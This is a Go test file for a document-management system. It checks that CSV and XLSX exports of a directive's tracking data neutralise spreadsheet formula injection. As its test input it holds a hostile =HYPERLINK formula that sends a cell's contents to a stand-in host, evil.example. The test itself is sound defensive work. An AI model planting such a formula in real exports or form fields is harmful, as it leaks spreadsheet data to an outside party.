package directives_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/loa-project/loa/internal/directives"
)

// TestTrackingExportNeutralisesFormulas: a recipient's decline reason that
// a spreadsheet would run as a formula comes out of the CSV export with a
// leading quote (shown as text), and of the XLSX export as a plain string
// cell without a formula.
func TestTrackingExportNeutralisesFormulas(t *testing.T) {
	eachEnv(t, func(t *testing.T, e *env) {
		const evil = `=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`
		v := seedDraft(e)
		path := fmt.Sprintf("/api/v1/directives/%d", v.ID)
		e.must(200, "POST", path+"/submit", "chuyenvien.so", nil, nil)
		e.must(200, "POST", path+"/approve", "lamvanson", nil, nil)
		e.at("2021-06-05")
		e.must(200, "POST", path+"/issue", "vanthu.so", directives.IssueInput{Date: "2021-06-05"}, nil)
		e.deliver()
		del := e.inboxOf("xem.baokg", "")[0]
		e.must(200, "POST", fmt.Sprintf("/api/v1/deliveries/%d/decline", del.ID), "xem.baokg", map[string]string{"reason": evil}, nil)

		r := e.must(200, "GET", path+"/tracking?format=csv", "vanthu.so", nil, nil)
		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.body, []byte("\ufeff")))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, row := range rows {
			for _, c := range row {
				if c == evil {
					t.Fatalf("CSV cell not neutralised: %q", c)
				}
				if len(c) > 0 && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("CSV cell starts with a formula character: %q", c)
				}
				found = found || c == "'"+evil
			}
		}
		if !found {
			t.Fatalf("the decline reason is not in the CSV export:\n%s", r.body)
		}

		xr := e.must(200, "GET", path+"/tracking?format=xlsx", "vanthu.so", nil, nil)
		x, err := excelize.OpenReader(bytes.NewReader(xr.body))
		if err != nil {
			t.Fatal(err)
		}
		xrows, err := x.GetRows("Theo dõi")
		if err != nil {
			t.Fatal(err)
		}
		found = false
		for i, row := range xrows {
			for j, c := range row {
				cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if f, err := x.GetCellFormula("Theo dõi", cell); err != nil || f != "" {
					t.Errorf("XLSX cell %s has formula %q (%v)", cell, f, err)
				}
				if c == evil {
					found = true
					if typ, _ := x.GetCellType("Theo dõi", cell); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
						t.Errorf("XLSX cell %s has type %v, want a string", cell, typ)
					}
				}
			}
		}
		if !found {
			t.Fatal("the decline reason is not in the XLSX export")
		}
	})
}
